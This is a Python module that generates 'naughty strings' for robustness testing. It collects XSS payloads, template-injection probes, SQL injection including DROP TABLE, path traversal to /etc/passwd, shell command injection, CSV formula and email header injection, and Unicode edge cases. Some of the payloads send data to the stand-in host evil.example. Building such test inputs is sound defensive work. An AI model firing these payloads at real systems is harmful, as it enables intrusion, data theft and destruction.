"""Self-made strings that break what is not careful: markup, scripts, templates, paths, queries, odd letters."""

from __future__ import annotations

from collections.abc import Iterator

SCRIPTS = (
    "<script>alert({})</script>",
    "<img src=x onerror=alert({})>",
    "<svg/onload=alert({})>",
    "</title><script>alert({})</script>",
    "</textarea><script>alert({})</script>",
    "</svg><script>alert({})</script>",
    '"><script>alert({})</script>',
    "' onmouseover='alert({})",
    '" autofocus onfocus="alert({})',
    "javascript:alert({})",
    "JaVaScRiPt:alert({})",
    "java\tscript:alert({})",
    "data:text/html,<script>alert({})</script>",
    "vbscript:msgbox({})",
    "<a href='javascript:alert({})'>x</a>",
    "<iframe srcdoc='<script>alert({})</script>'>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert({}) src>'>",
    "<!--<script>alert({})//-->",
    "<![CDATA[<script>alert({})</script>]]>",
    "<base href='https://evil.example/'>{}",
    "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
    "<form action='https://evil.example'><input name=token>{}",
    "<style>*{{background:url(https://evil.example/{})}}</style>",
    "<link rel=stylesheet href=https://evil.example/{}>",
    "&lt;script&gt;alert({})&lt;/script&gt;",
    "&#60;script&#62;alert({})&#60;/script&#62;",
    "\\x3cscript\\x3ealert({})",
    "＜script＞alert({})＜/script＞",
)
TEMPLATES = (
    "{{{{ {} * 7 }}}}",
    "{{% for x in range({}) %}}x{{% endfor %}}",
    "${{{} * 7}}",
    "#{{{}}}",
    "<%= {} * 7 %>",
    "{{# {} #}}",
)
QUERIES = (
    "' OR {}={} --",
    '"; DROP TABLE articles; --{}',
    "%' UNION SELECT {}",
    "*:* OR {}",
    "NOT NEAR({} {})",
    "title:({}",
    '"{}',
    "{}^9~",
)
PATHS = (
    "../../../etc/passwd{}",
    "..\\..\\{}",
    "%2e%2e%2f{}",
    "/dev/null{}",
    "C:\\con{}",
    "file:///etc/{}",
    "%00{}",
    "?a={}&b#{}",
    ";{}|ls",
    "$(ls {})",
    "`ls {}`",
)
LINES = (
    "Subject: x\r\nBcc: victim{}@example.org",
    "x\r\n\r\n<html>{}",
    "a\nb\rc\u2028d\u2029e{}",
    "\t\v\f{}",
    "=cmd|' /C calc'!A{}",
    "+1+{}",
    "-2+{}",
    "@SUM({})",
)
LETTERS = (
    "\u202egnp.{}",
    "\u2066\u2067{}\u2069",
    "\u200b\u200c\u200d\ufeff{}",
    "Z̴̡͎a̵͖̓l̶͚͐g̷͎̑o̸{}",
    "👩‍👩‍👧‍👦🏳️‍🌈🇩🇪{}",
    "ﷺ{}",
    "ẞßſİıŉ{}",
    "\x00nul{}",
    "\x1b[31mred{}",
    "\x7f\x9b{}",
    "\ud800{}",
    "\udfff{}",
    "\ufffe\uffff{}",
    "\U0010ffff{}",
    "قال الرئيس{}",
    "עברית (אבג) {}",
    "渡し船が止まる{}",
    "ไทย{}",
    "ñ = n\u0303 {}",
    "K = \u212a {}",
    "１２３{}",
    "½⅔Ⅷ{}",
)
WORDS = (
    "null{}",
    "undefined{}",
    "NaN{}",
    "None{}",
    "true{}",
    "-0.0e{}",
    "1e999{}",
    "0x{}",
    "{}" * 50,
    "[object Object]{}",
    "@everyone {}",
    "[x](https://evil.example/{})",
    "<@{}>",
    "*_~`{}",
    "/me {}",
)


def naughty() -> Iterator[str]:
    """Yield five hundred and more of them, no two alike."""
    forms = (*SCRIPTS, *TEMPLATES, *QUERIES, *PATHS, *LINES, *LETTERS, *WORDS)
    yield from (
        "",
        " ",
        "\u00a0",
        ".",
        "/",
        "\\",
        "'",
        '"',
        "`",
        "<",
        ">",
        "&",
        "%",
        "a" * 5000,
        "<" * 3000,
        "\u0301" * 2000,
    )
    for number in range(1, 6):
        for form in forms:
            yield form.format(*[number] * 50)
